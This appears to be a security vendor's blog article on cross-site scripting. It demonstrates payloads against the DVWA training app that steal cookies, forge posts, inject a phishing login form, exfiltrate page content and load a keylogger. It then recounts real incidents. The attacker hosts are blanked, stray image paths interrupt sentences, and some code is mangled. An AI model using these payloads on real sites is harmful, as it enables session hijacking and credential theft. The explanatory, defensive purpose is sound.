Cross-Site Scripting is Among the Most Common OWASP Vulnerabilities That Affects Both Small Businesses to Large Corporations

Cross site scripting(XSS) is among the most seen web application vulnerabilities, it poses a serious threat to more than 60% of websites all over the world. It’s a typical cyber-attack in that it’s done by delivering malicious content to users with the hope of stealing the user’s critical data, such as login credentials.

Likewise, cross site scripting is widespread due to the weaknesses that are often found within client-side scripting languages, such as JavaScript and HTML.

However, everyone should be aware of the risk of a cross-site scripting attack. This article will look at some real-world cross-site scripting examples that will help us understand how risky this vulnerability is.

Let’s look at some real-world cross site scripting examples by creating high-impact proof of concept (POC). Henceforth, you’ll get to know how cyber attackers exploit vulnerabilities that negatively impact businesses.Here Are Some of the Real-World Cross Site Scripting Examples That Are Commonly Seen

Below are some commonly seen real-world cross site scripting examples that attackers often use, and they are:

  • User Session Hijacking
  • Unauthorized Activities
  • Phishing Attack
  • Stealing Critical Information
  • Capturing Keystrokes
Now, let’s look into more detail. Each of these real-world cross site scripting examples below include the use of an application named DVWA(Damn Vulnerable Web Application).
alert response browser
For instance, the DVWA page http://localhost:81/DVWA/vulnerabilities/xss_r/ is infected by a reflected XSS within the name parameter, which you can see in the above image with the JavaScript code <script>alert(123)</script>, which reflects and executes within the response page.

User Session Hijacking

Usually, web applications store user sessions for identifying the user from multiple HTTP requests. Likewise, sessions are identified through session cookies.

For instance, once a successful login occurs to an application, its server will send a session cookie to the user using the Set-Cookie header. Therefore, if the user accesses any page within the application or submits any form, it’ll also store the web browser’s cookie in the requests sent to the application’s server. And, because of that, the server will also be able to identify the user.

Henceforth, session cookies are critical information. It can become beneficial for an attacker to impersonate themselves as legit users and access a user’s existing web session if compromised. And this attack is known as session hijacking.For instance, JavaScript code running within the web browser can access the session cookies if the HTTPOnly is not available by calling document.cookie. And, if any attacker injects the below payload into the name parameter, the vulnerable page will display the current value of the cookie by popping an alert box:


alert session browser
Furthermore, to steal the cookies, the attacker provides a payload that sends the cookie value to the malicious website of an attacker.

<script>new Image().src=""+document.cookie;</script>

With the help of the payload as mentioned above, a new Image object is created withinthe DOM of the current web page while setting the src attribute towards the attacker’s malicious website. Ultimately, the browser will make an HTTP request for that external website

And in return the attacker’s website will send the cookie to the web server:

http://localhost:81/DVWA/vulnerabilities/xss_r/?name=<script>new Image().src="https://"+document.cookie;</script>

Furthermore, whenever the browser gets request, JavaScript payload gets executed further and makes a new request to, along with the cookie value within the URL as shown in the image.

fakepg php
Likewise, if anyone listens to an incoming connection from the server controlled by an attacker, you’ll be able to see an incoming request with cookie values appended within the URL. And, it’ll detect the same information within the access.log file on the webserver.receive cookie netcat

Here’s How Stolen Cookies Are UsedUsing the above cookie information, if anyone accesses an internal page of the application and append that cookie value within the request, an attacker can access that page without the victim’s knowledge in its session. And that is also without knowing login credentials, which is called hijacking the user’s session.

hijack session private
hijack session 1 Screenshot of a Cookie Value
hijack session 2 Screenshot of HTML Code
hijack session 3 Screenshot of DVWA Form
Lastly, the HTTPOnly cookie attribute can help in preventing such ascenario by blocking access to the cookie value using JavaScript. All it requires is to initialize the cookie value (though the Set-Cookie header).

Unauthorized Activities

Once the HTTPOnly cookie attribute is set, you cannot steal the cookies using JavaScript. But, with the help of an XSS attack, you can still gain unauthorized access within the application on behalf of the user.

Let’s look at it with an example, where an attacker can post a new message in the Scrapbook on behalf of the victim user without their knowledge. Here it requires to forge an HTTP POST request towards the Guestbook page using an appropriate parameter with JavaScript.

Here below is the payload that creates an XMLHTTPRequest object and sets an important data and header:

var xhr = new XMLHttpRequest();'POST','http://localhost:81/DVWA/vulnerabilities/xss_s/',true);

And, this is how the request will look likewithin the browser.

unauth activities 7 Screenshot of How Requests Looks Within Browser
unauth activities 8 Screenshot of Intercepted Session
Once the script executes, it’ll generate a new request for adding a comment by pretending to be a legit user.
unauth activities 9 Screenshot of New Request for Adding a Comment
unauth activities 10 Screenshot of User's Information

Phishing Attack

The phishing attack is another standard XSS attack example. The attacker injects a form within the vulnerable page and uses that altered form to collect the user’s credential information.

For example, the below-mentioned payload injects a form with a message “Please login to proceed” with input fields that ask for your username and password. Likewise, users may enter their information, and once they do so, the attacker getsaccess to it, which they can use for their benefit.


http://localhost:81/DVWA/vulnerabilities/xss_r/?name=<h3>Please login to proceed</h3> <form action=>Username:<br><input type="username" name="username"></br>Password:<br><input type="password" name="password"></br><br><input type="submit" value="Logon"></br>
harvest credentials 1 Screenshot of Fake Login Created by Attacker
And, once the credentials are entered and the user clicks the button “Logon,” it’ll further send credentials to the malicious server controlled by an attacker. Below is a screenshot of the same request:
harvest credentials 2 Screenshot of Harvesting CredentialsLikewise, using the pen-testing tool, you can also see entered credentials on the attacker’s malicious server.
harvest credentials 3 Screenshot of Credential Entered by Users

Stealing Critical Information

As the name implies, stealing critical information is another XSS example where an attacker steals information from the user’s current session. For example, online banking applications may be vulnerable to a XSS attack, and the attacker reads the current balance, information related to transactions, personal data, etc.

Here’s an example where the attacker fetches the source code of an entire web page:

<script>newImage().src=" fakepg.php?output="+document.body.innerHTML</script>

sensitive data 8 Screenshot of Attacker Fetching the Source Code

Capturing Keystrokes

Here is another cross-site scripting example – where an attacker inserts a JavaScript key logger within the vulnerable page and tracks all the user’s keystrokes within the present web page.

For this, an attacker first creates a JavaScript file that is hosted on the malicious server of the attacker. Below is an example of this:

keylogger 1 Screenshot of JavaScript File Hosted on the Malicious Server
Here, for every keystroke made by the user, a new XMLHttp request is generated, which is sent towards the keylog.php page hosted on the attacker’s malicious server. And the keylog.php file writes the value of keys pressed by the user into a file named data.txt.
keylogger 2 Screenshot of New XMLHttp Request Getting Generated
Furthermore, a vulnerable page is called with the payload via the server.

http://localhost:81/DVWA/vulnerabilities/xss_r/?name=<script src="">

Henceforth, once the script loads on the web page, a new request gets fired with every keystroke made by the user.

keylogger 4 Screenshot of New Request Getting Fired on Every Keystroke
Lastly, the value of the parameter key gets written in the data.txt file, as shown in the below image:
keylogger 5 Screenshot of the Parameter Key Getting Written

Real-World Cross Site Scripting Examples – Some Notable XSS Attacks

Here below are some of the cross-site scripting attack examples that have occurred on popular companies:Referred as “Sammy worm,” perhaps one of the fastest spreading computer viruses of all time that changed web security forever. On October 4, 2005, 19-year-old hacker Sammy Kamkar wrote a few lines of code that turned out to be a cross-sitescripting worm targeted toward then-popular social media platform MySpace, wherein less than 24 hours “Sammy” had 1M+ friends in the MySpace community.

By using Internet Explorer, Sammy broke JavaScript by two lines and kept his script code within a CSS (Cascading Style Sheet) tag that simply instructed the web browser to load a MySpace URL and automatically invited Sammy as a friend and added him as a “hero” to the visitor’s own profile page without the user’s knowledge.


In 2011, three separate cross site scripting vulnerabilities were discovered on the Facebook site within a short span of ten days. And, among them, at least two of them were for launching viral links or attacks on Facebook users.

For instance, the first issue came through a page on the mobile version of Facebook, where the interface was prompting to post stories on a user’s wall. Furthermore, a second XSS issue was created using HTML within a viral page to distribute phishing attacks or malware distribution. However, several links were spreading virally, which caught the attention of security researchers, and Facebook immediately patched the issue.

Lastly, the third XSS issue was with a Facebook “channel” page for session management, where code got updated that changed the page’s behavior. Though, once it was noticed, Facebook immediately resolved the issue.CIA (Central Intelligence Agency)

The CIA (Central Intelligence Agency) had come across an XSS vulnerability on their website by an Indian hacker, Lulzsec, lionanesh, who took down the CIA website. However, the hacker seemingly didn’t have any purpose behind it or did malicious damage. Instead, they may have wanted just to show how bad the vulnerability was on the site and how it had to be repaired immediately.


The popular online video game Fortnite by Epic Games almost became a victim of cross-site scripting attacks that could’ve led to a data breach in early 2019. The issue was due to an unsecured retired web page, giving attackers unlimited access to 200 million users. The purpose behind the attack was to steal the virtual currency of the game and record player’s conversations that may provide critical information for the future attack.

In 2018 – 2019 Fortnite was nominated for 35 games awards and also won 19 titles such as “Best Multiplayer/Competitive Game,” “Online Game of The Year,” and “eSports Game of the Year.” Furthermore, according to reports of Statista, Fortnite had registered 350 million users, making it one of the most lucrative targets for hackers.

Lastly, the security researchers of Check Point had caught and notified the game makers about this vulnerability in January 2019. And later it was even confirmed that there was no major cyberattack due to such vulnerabilities.

British Airways

The second-largest carrier airline of the UK (United Kingdom), British Airways, had faced a breach in early 2018. It had affected 380,000 booking transactions from August to September 2018. However, it was caught by the RiskIQ researchers, and it was reported to British Airway, which was patched later on.

It was suspected that Magecart, a popular hacker group known for using card skimming techniques to get access to confidential credit card details from unsecured payment pages of popular websites,was linked to this British Airways XSS attack.

Nonetheless, the JavaScript file was used after it was modified to track customer data and forward it to the attacker’s malicious server (“”) once the user submitted the form. To make the form appear genuine, attackers had even bought a secure SSL/TLS certificate for their fake server, so the page looked secure to users and left no traces of doubt for the users to get suspicious when making a payment/sharing credit card details.

Here a skimming process was carried out by exploiting a cross-site scripting vulnerability that used a malicious JavaScript library called Feedify.


eBay is among the popular online marketplaces for buying and selling products from or to consumers and businesses. However, it had faced multiple cross-site scripting attacks in the past, from December 2015 to January 2016 due to the critical vulnerabilities that could have easily harvested to impact eBay users. Likewise, users generally buy and sell different types of products on eBay. Therefore, attackers can access auser’s products, steal their payment details, sell user’s products cheaply, etc. through the platform.

This XSS vulnerability issue was through a “URL” parameter, redirecting users to the right page but it didn’t check parameter values before inserting them within the page, making it vulnerable. Likewise, an attacker could’ve used malicious code within the page that makes the user perform the attacker’s bidding. For instance, an attacker may add code with the objective of stealing the user’s login credentials.

Real-World Cross Site Scripting – Closing Thoughts

Based upon data processed and the functionality of the vulnerable application, XSS vulnerabilities can differ and pose various threats to an organization. For instance, once your organization getsattacked by an XSS attack, the attacker can steal critical data, perform unauthorized activities, and even hijack the user’s active web sessions.

Some of the best protection approaches you can take to prevent such XSS vulnerability attacks are simply taking the website security measures you’d expect, such as avoiding HTML tags in inputs, sanitizing data and securing your web application cookies. Lastly, also scanning your web applications using a website vulnerability scanner such asSectigo’s HackerGuardian could save you a lot of long-term headache.